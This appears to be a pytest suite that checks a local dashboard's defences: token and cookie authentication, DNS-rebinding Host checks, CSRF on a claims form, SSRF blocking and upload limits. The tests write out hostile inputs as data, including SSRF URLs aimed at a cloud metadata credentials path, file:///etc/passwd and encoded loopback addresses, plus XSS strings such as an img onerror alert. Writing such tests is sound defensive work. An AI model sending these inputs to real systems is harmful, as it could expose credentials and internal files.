def _guarded_urls(briefing: bool = True) -> list[str]:
    """One URL per route (each dyad tab is the same route), a download and a missing page;
    the briefing (slow to make) only where the answer is a refusal."""
    return [*(u for u in PAGES if "dimension=" not in u), "/static/pivotwatch.css",
            "/alerts.atom", *(["/dyad/RUS-PRK/briefing.html"] if briefing else []),
            "/dyad/RUS-PRK?table=scorecard&format=csv", "/no/such/page"]


WRONG = {
    "none": {},
    "wrong token": {"Authorization": "Bearer " + "x" * len(TOKEN)},
    "a prefix of the token": {"Authorization": "Bearer " + TOKEN[:-1]},
    "the token and more": {"Authorization": "Bearer " + TOKEN + "0"},
    "empty bearer": {"Authorization": "Bearer "},
    "token in X-Token": {"X-Token": TOKEN},
    "token in X-Api-Key": {"X-Api-Key": TOKEN},
    "token as Basic": {"Authorization": "Basic " + __import__("base64").b64encode(
        f"user:{TOKEN}".encode()).decode()},
    "token without scheme": {"Authorization": TOKEN},
    "forged cookie": {"Cookie": "pivotwatch_token=" + "y" * 64},
    "the token itself as the cookie": {"Cookie": f"pivotwatch_token={TOKEN}"},
    "token in another cookie": {"Cookie": f"token={TOKEN}"},
    "wrong header, right cookie name empty": {"Cookie": "pivotwatch_token="},
    "non-ASCII token": {"Authorization": "Bearer " + "ü" * 20},
}


class TestToken:
    @pytest.mark.parametrize("how", list(WRONG))
    def test_no_right_token_no_answer(self, guarded, how):
        for url in _guarded_urls():
            status, headers, body = guarded.raw(url, WRONG[how])
            assert status == 401, (url, how, status)
            assert b"RUS-PRK" not in body and b"<table" not in body
            assert_headers(headers)
        status, _, _ = guarded.raw("/claims", WRONG[how], method="POST",
                                   body=b"input=text&text=x")
        assert status == 401

    def test_a_wrong_token_in_the_query_is_refused(self, guarded):
        for bad in ("x" * len(TOKEN), TOKEN[:-1], TOKEN.upper(), f"{TOKEN}%00", ""):
            assert guarded.client.get(f"/?token={bad}").status_code == 401

    @pytest.mark.parametrize("how", ["header", "query", "cookie"])
    def test_the_right_token_opens_the_pages(self, guarded, server, how):
        """The pages quick to make (each other page is a first computation on this second
        app), a file, a download, the feed and a missing page. A token in the link is
        answered with a redirect to the view without it, setting the cookie."""
        from pivotwatch.web.security import COOKIE, cookie_value

        for url in ("/data", "/alerts", "/claims", "/dyad/RUS-PRK/events?from=2024&to=2024",
                    "/static/pivotwatch.css", "/alerts.atom", "/no/such/page",
                    "/alerts?table=x&format=csv"):
            expected = server.client.get(url).status_code
            if how == "header":
                r = guarded.client.get(url, headers={"Authorization": f"Bearer {TOKEN}"})
            elif how == "query":
                sep = "&" if "?" in url else "?"
                with httpx.Client(base_url=guarded.base, timeout=60) as visitor:
                    first = visitor.get(f"{url}{sep}token={TOKEN}")
                    assert first.status_code == 303 and first.headers["location"] == url
                    cookie = first.headers["set-cookie"].lower()
                    assert "httponly" in cookie and "samesite=strict" in cookie
                    assert TOKEN.lower() not in cookie
                    r = visitor.get(first.headers["location"])
            else:
                r = httpx.get(guarded.base + url, timeout=60,
                              cookies={COOKIE: cookie_value(TOKEN)})
            assert r.status_code == expected, (url, how)
            assert TOKEN not in r.text  # never written into a page or a permalink
            assert_headers(r)

    @pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.0.2.10", "127.0.0.1.nip.io",
                                      "LOCALHOST.example"])
    @pytest.mark.parametrize("token", [None, "", "   ", "short-token-15c"])
    def test_serve_refuses_a_public_address_without_a_long_token(self, monkeypatch, host,
                                                                 token):
        if token is None:
            monkeypatch.delenv("PIVOTWATCH_TOKEN", raising=False)
        else:
            monkeypatch.setenv("PIVOTWATCH_TOKEN", token)
        result = CliRunner().invoke(cli_app, ["serve", "--host", host])
        assert result.exit_code == 2, result.output
        assert "PIVOTWATCH_TOKEN" in result.output and "Traceback" not in result.output


class TestRebinding:
    """A page of another site that points its name at 127.0.0.1 (DNS rebinding) reaches a
    dashboard without a token under its own name: refused, so it reads nothing and cannot
    pass the CSRF check as its own origin."""

    @pytest.mark.parametrize("host", ["evil.example:{port}", "evil.example",
                                      "127.0.0.1.nip.io:{port}", "localhost.evil.example",
                                      "[::ffff:127.0.0.1]:{port}", "0.0.0.0:{port}"])
    def test_a_foreign_host_name_is_refused_on_every_route(self, server, host):
        host = host.format(port=server.port)
        for url in _guarded_urls():
            status, headers, body = server.raw(url, {"Host": host})
            assert status == 400, (host, url, status)
            assert b"RUS-PRK" not in body and b"csrf" not in body
            assert_headers(headers)
        status, _, _ = server.raw("/claims", {"Host": host, "Origin": f"http://{host}",
                                              "Content-Type": "application/x-www-form-urlenc"
                                                              "oded"},
                                  method="POST", body=b"input=text&text=x")
        assert status == 400

    @pytest.mark.parametrize("host", ["127.0.0.1:{port}", "localhost:{port}", "[::1]:{port}",
                                      "LOCALHOST", "dash.localhost:{port}"])
    def test_a_loopback_name_is_answered(self, server, host):
        status, _, body = server.raw("/", {"Host": host.format(port=server.port)})
        assert status == 200 and b"RUS-PRK" in body


# --- errors and headers --------------------------------------------------------------------

ERRORS = {
    "404 page": ("GET", "/no/such/page", 404),
    "404 dyad": ("GET", "/dyad/RUS-XYZ", 404),
    "400 parameter": ("GET", "/dyad/RUS-PRK?freq=fortnight", 400),
    "400 table": ("GET", "/dyad/RUS-PRK?table=nothing&format=csv", 400),
    "400 chart format": ("GET", "/dyad/RUS-PRK?chart=series&format=exe", 400),
    "404 chart": ("GET", "/dyad/RUS-PRK?chart=nothing", 404),
    "405 POST a page": ("POST", "/dyad/RUS-PRK", 405),
    "405 PUT": ("PUT", "/", 405),
    "405 DELETE": ("DELETE", "/alerts", 405),
    "403 POST claims without a token": ("POST", "/claims", 403),
}


class TestErrorsAndHeaders:
    @pytest.mark.parametrize("case", list(ERRORS))
    def test_an_error_is_a_status_and_a_line(self, server, case):
        method, url, status = ERRORS[case]
        r = server.client.request(method, url)
        assert r.status_code == status, (case, r.text[:300])
        assert_no_leak(r.text)
        assert_headers(r)

    @pytest.mark.parametrize("state", ["missing", "not a store"])
    def test_an_unreadable_store_is_a_503_without_its_path(self, tmp_path, state):
        db = tmp_path / "gone.duckdb"
        if state == "not a store":
            db.write_text("not a DuckDB file")
        with Server(db, None) as s:
            for url in ("/", "/dyad/RUS-PRK", "/data", "/alerts"):
                r = s.client.get(url)
                assert r.status_code == 503, (url, r.status_code)
                assert str(tmp_path) not in r.text and "DuckDB" not in r.text
                assert_no_leak(r.text)
                assert_headers(r)

    @pytest.mark.parametrize("url", ["/", "/static/pivotwatch.css", "/alerts.atom",
                                     "/dyad/RUS-PRK?table=scorecard&format=json",
                                     "/dyad/RUS-PRK?table=scorecard&format=csv"])
    @pytest.mark.parametrize("method", ["GET", "HEAD", "OPTIONS"])
    def test_every_answer_carries_the_headers(self, server, url, method):
        r = server.client.request(method, url)
        assert r.status_code in (200, 405), (method, url, r.status_code)
        assert_headers(r)
        assert r.headers["content-security-policy"].startswith("default-src 'self'")
        assert "'unsafe-inline'" not in r.headers["content-security-policy"]


# --- the claims page: CSRF, SSRF and uploads -----------------------------------------------

CLAIM = "North Korea sent 10,000 troops to Russia in 2024."


def csrf_session(s: Server, headers: dict[str, str] | None = None) -> tuple[dict, str]:
    """The CSRF cookie and the form token a visitor of /claims gets."""
    r = httpx.get(s.base + "/claims", headers=headers or {}, timeout=60)
    assert r.status_code == 200, r.text[:300]
    token = re.search(r'name="csrf" value="([^"]+)"', r.text)
    assert token, "the claims page has no CSRF field"
    return dict(r.cookies), token[1]


def post(s: Server, data: dict, *, cookies: dict | None = None, origin: str | None = "own",
         files: dict | None = None, headers: dict | None = None) -> httpx.Response:
    sent = dict(headers or {})
    if origin == "own":
        sent["Origin"] = s.base
    elif origin is not None:
        sent["Origin"] = origin
    with httpx.Client(base_url=s.base, cookies=cookies or {}, timeout=120) as c:
        return c.post("/claims", data=data, files=files, headers=sent)


class Listener:
    """A socket that counts the connections made to it: the proof that a refused URL was
    never fetched."""

    def __init__(self, host: str = "127.0.0.1") -> None:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        self.sock = socket.socket(family)
        self.sock.bind((host, 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: "
                         b"14\r\n\r\ninternal only\n")
            conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture(scope="module")
def listener():
    found = Listener()
    yield found
    found.close()


@pytest.fixture(scope="module")
def listener6():
    try:
        found = Listener("::1")
    except OSError:
        pytest.skip("no IPv6 loopback here")
    yield found
    found.close()


def _ssrf_urls(port: int) -> dict[str, str]:
    return {
        "loopback": f"http://127.0.0.1:{port}/admin",
        "localhost": f"http://localhost:{port}/",
        "decimal": f"http://2130706433:{port}/",
        "hex": f"http://0x7f000001:{port}/",
        "octal": f"http://0177.0.0.1:{port}/",
        "short": f"http://127.1:{port}/",
        "mapped v6": f"http://[::ffff:127.0.0.1]:{port}/",
        "mapped v6 hex": f"http://[::ffff:7f00:1]:{port}/",
        "unspecified": f"http://0.0.0.0:{port}/",
        "userinfo": f"http://example.org@127.0.0.1:{port}/",
        "upper scheme": f"HTTP://127.0.0.1:{port}/",
        "metadata": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "metadata decimal": "http://2852039166/latest/meta-data/",
        "private": "http://10.0.0.1/",
        "file": "file:///etc/passwd",
        "file localhost": "file://localhost/etc/passwd",
        "gopher": f"gopher://127.0.0.1:{port}/_GET%20/",
        "ftp": f"ftp://127.0.0.1:{port}/",
        "dict": f"dict://127.0.0.1:{port}/info",
        "bare path": "/etc/passwd",
        "relative": "../../../../etc/passwd",
    }


class TestClaimsWrites:
    """`POST /claims`: CSRF on every write, the address policy on the URL audit, caps and
    type checks on uploads. Skipped until web/claims.py is in the tree."""

    @pytest.fixture(autouse=True)
    def _has_claims(self):
        if not any(r.path == "/claims" and "POST" in (r.methods or ()) for _, r in ROUTES):
            pytest.skip("no POST /claims in this tree")

    def test_a_well_formed_post_audits(self, server):
        cookies, token = csrf_session(server)
        r = post(server, {"csrf": token, "input": "text", "text": CLAIM}, cookies=cookies)
        assert r.status_code == 200, r.text[:300]
        assert "10,000 troops" in r.text and audit(r.text).problems == []
        assert_headers(r)

    @pytest.mark.parametrize("case", ["no token", "wrong token", "token of another app",
                                      "no cookie", "cookie of another visitor",
                                      "token as a header", "token in the query"])
    def test_a_post_without_its_own_token_is_refused(self, server, guarded, case):
        cookies, token = csrf_session(server)
        data = {"input": "text", "text": CLAIM, "csrf": token}
        headers = {}
        if case == "no token":
            del data["csrf"]
        elif case == "wrong token":
            data["csrf"] = "0" * len(token)
        elif case == "token of another app":
            other_cookies, other = csrf_session(guarded, {"Authorization": f"Bearer {TOKEN}"})
            cookies, data["csrf"] = other_cookies, other
        elif case == "no cookie":
            cookies = {}
        elif case == "cookie of another visitor":
            cookies, _ = csrf_session(server)
        elif case == "token as a header":
            del data["csrf"]
            headers = {"X-CSRF-Token": token}
        else:
            del data["csrf"]
            r = httpx.post(f"{server.base}/claims?csrf={token}", data=data, cookies=cookies,
                           headers={"Origin": server.base}, timeout=60)
            assert r.status_code == 403
            return
        r = post(server, data, cookies=cookies, headers=headers)
        assert r.status_code == 403, (case, r.status_code)
        assert "10,000 troops" not in r.text
        assert_headers(r)
        assert_no_leak(r.text)

    @pytest.mark.parametrize("origin", ["http://evil.example", "null", "http://127.0.0.1",
                                        "https://127.0.0.1:{port}", "http://localhost:{port}",
                                        "http://127.0.0.1:{port}.evil.example",
                                        "http://evil.example/http://127.0.0.1:{port}", None,
                                        "referer:http://evil.example/claims"])
    def test_a_post_from_another_origin_is_refused(self, server, origin):
        cookies, token = csrf_session(server)
        data = {"input": "text", "text": CLAIM, "csrf": token}
        if origin and origin.startswith("referer:"):
            r = post(server, data, cookies=cookies, origin=None,
                     headers={"Referer": origin[8:]})
        else:
            r = post(server, data, cookies=cookies,
                     origin=origin.format(port=server.port) if origin else None)
        assert r.status_code == 403, (origin, r.status_code)
        assert_headers(r)

    def test_a_get_never_writes_or_audits(self, server):
        cookies, token = csrf_session(server)
        r = httpx.get(f"{server.base}/claims", params={"input": "text", "text": CLAIM,
                                                       "csrf": token}, cookies=cookies,
                      timeout=60)
        assert r.status_code in (200, 400) and "10,000 troops" not in r.text
        for method in ("PUT", "PATCH", "DELETE"):
            assert server.client.request(method, "/claims").status_code == 405

    def test_a_text_post_is_not_a_form(self, server):
        """A cross-site `text/plain` POST (no preflight) carries no form, so no token."""
        cookies, token = csrf_session(server)
        r = httpx.post(f"{server.base}/claims", content=f"csrf={token}&input=text&text=x",
                       headers={"Content-Type": "text/plain", "Origin": server.base},
                       cookies=cookies, timeout=60)
        assert r.status_code in (400, 403)

    def test_pasted_payloads_come_back_escaped(self, server):
        cookies, token = csrf_session(server)
        text = CLAIM + "\n" + "\n".join(planted(TEXT, 1300))
        r = post(server, {"csrf": token, "input": "text", "text": text}, cookies=cookies)
        assert r.status_code == 200
        assert audit(r.text).problems == []
        assert "&lt;/textarea&gt;&lt;script&gt;alert(1303)" in r.text

    @pytest.mark.parametrize("case", list(_ssrf_urls(1)))
    def test_the_url_audit_never_reaches_a_private_address(self, server, listener, case):
        cookies, token = csrf_session(server)
        url = _ssrf_urls(listener.port)[case]
        r = post(server, {"csrf": token, "input": "url", "url": url}, cookies=cookies)
        assert r.status_code in (400, 502), (case, r.status_code)
        assert listener.connections == 0, f"{case}: the server connected"
        assert "internal only" not in r.text and "root:x" not in r.text
        assert_headers(r)
        assert_no_leak(r.text)

    def test_the_url_audit_never_reaches_the_ipv6_loopback(self, server, listener6):
        cookies, token = csrf_session(server)
        r = post(server, {"csrf": token, "input": "url",
                          "url": f"http://[::1]:{listener6.port}/"}, cookies=cookies)
        assert r.status_code == 400 and listener6.connections == 0

    def test_a_redirect_to_loopback_is_refused_at_that_hop(self, server, listener,
                                                           monkeypatch):
        """A site the policy allows (127.0.0.2 stands for a public one) that redirects to
        loopback: the first hop is fetched, the second never."""
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        hits = []
        target = f"http://127.0.0.1:{listener.port}/admin"

        class Redirect(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(302)
                self.send_header("Location", target)
                self.end_headers()

            def log_message(self, *args):
                pass

        try:
            public = ThreadingHTTPServer(("127.0.0.2", 0), Redirect)
        except OSError:
            pytest.skip("127.0.0.2 is not available here")
        threading.Thread(target=public.serve_forever, daemon=True).start()
        monkeypatch.setenv("PIVOTWATCH_ALLOW_PRIVATE_URLS", "127.0.0.2")
        try:
            cookies, token = csrf_session(server)
            r = post(server, {"csrf": token, "input": "url",
                              "url": f"http://127.0.0.2:{public.server_port}/news"},
                     cookies=cookies)
        finally:
            public.shutdown()
            public.server_close()
        assert hits == ["/news"]
        assert r.status_code == 400 and "loopback" in r.text
        assert listener.connections == 0

    @pytest.mark.parametrize("case", ["png as txt", "zip as txt", "pdf as md", "gzip as html",
                                      "binary", "feed"])
    def test_an_upload_of_the_wrong_type_is_415(self, server, case):
        import zipfile

        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("a.txt", CLAIM)
        content = {
            "png as txt": ("notes.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4),
            "zip as txt": ("notes.txt", buf.getvalue()),
            "pdf as md": ("notes.md", b"%PDF-1.7\n" + CLAIM.encode()),
            "gzip as html": ("page.html", gzip.compress(CLAIM.encode())),
            "binary": ("notes.txt", bytes(range(256)) * 64),
            "feed": ("feed.xml", b'<?xml version="1.0"?><rss version="2.0"><channel><title>'
                                 b"x</title><item><title>" + CLAIM.encode() +
                                 b"</title></item></channel></rss>"),
        }[case]
        cookies, token = csrf_session(server)
        r = post(server, {"csrf": token, "input": "file"}, cookies=cookies,
                 files={"file": (content[0], content[1], "text/plain")})
        assert r.status_code == 415, (case, r.status_code, r.text[:200])
        assert_headers(r)

    def test_an_oversized_upload_is_413(self, server):
        cookies, token = csrf_session(server)
        big = (CLAIM + "\n").encode() * ((3 << 20) // len(CLAIM))
        r = post(server, {"csrf": token, "input": "file"}, cookies=cookies,
                 files={"file": ("big.txt", big, "text/plain")})
        assert r.status_code == 413
        r = post(server, {"csrf": token, "input": "text", "text": "x " * (2 << 20)},
                 cookies=cookies)
        assert r.status_code == 413
        assert server.client.get("/").status_code == 200

    def test_a_declared_huge_body_is_refused_before_it_is_read(self, server):
        cookies, token = csrf_session(server)
        status, _, _ = server.raw("/claims", method="POST", body=b"csrf=" + token.encode(),
                               headers={
            "Content-Length": str(10 << 30), "Origin": server.base,
            "Content-Type": "application/x-www-form-urlencoded",
                                   "Cookie": "; ".join(f"{k}={v}"
                                                       for k, v in cookies.items())})
        assert status == 413

    def test_a_form_beyond_the_pages_limits_is_refused(self, server):
        cookies, token = csrf_session(server)
        two = post(server, {"csrf": token, "input": "file"}, cookies=cookies,
                   files=[("file", ("a.txt", CLAIM.encode(), "text/plain")),
                          ("file", ("b.txt", CLAIM.encode(), "text/plain"))])
        many = post(server, {"csrf": token, "input": "text", "text": CLAIM,
                             **{f"f{i}": "x" for i in range(40)}}, cookies=cookies,
                    files={"file": ("a.txt", CLAIM.encode(), "text/plain")})
        assert two.status_code == 400 and many.status_code == 400
        assert_no_leak(two.text + many.text)

    def test_an_uploaded_name_is_a_name(self, server):
        cookies, token = csrf_session(server)
        r = post(server, {"csrf": token, "input": "file"}, cookies=cookies,
                 files={"file": ("../../<img src=x onerror=alert(1400)>.txt",
                                 CLAIM.encode(), "text/plain")})
        assert r.status_code == 200, r.text[:300]
        assert audit(r.text).problems == [] and "../../" not in r.text
